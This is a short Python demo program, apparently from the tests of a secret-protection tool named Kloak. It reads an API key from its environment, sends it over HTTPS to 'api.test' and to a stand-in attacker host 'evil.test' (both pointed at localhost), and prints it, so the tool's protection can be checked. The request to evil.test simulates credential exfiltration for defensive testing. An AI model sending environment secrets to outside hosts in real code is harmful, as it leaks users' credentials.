# SPDX-License-Identifier: GPL-2.0-only
"""The application of the demo, which knows nothing of Kloak. argv: port, CA file.

Sends the API key that it finds in its environment to api.test and evil.test, prints
it, and waits for a line, so that its memory can be searched.
"""
import http.client
import os
import socket
import ssl
import sys

port, authority = int(sys.argv[1]), sys.argv[2]


class Connection(http.client.HTTPSConnection):
    """api.test is a server on this machine, without DNS."""

    def connect(self):
        context = ssl.create_default_context(cafile=authority)
        self.sock = context.wrap_socket(socket.create_connection(("127.0.0.1", port)),
                                        server_hostname=self.host)


for host in ("api.test", "evil.test"):
    connection = Connection(host, port)
    connection.request("GET", "/", headers={"X-Api-Key": os.environ["API_KEY"]})
    connection.getresponse().read()
print(os.environ["API_KEY"], flush=True)
sys.stdin.readline()
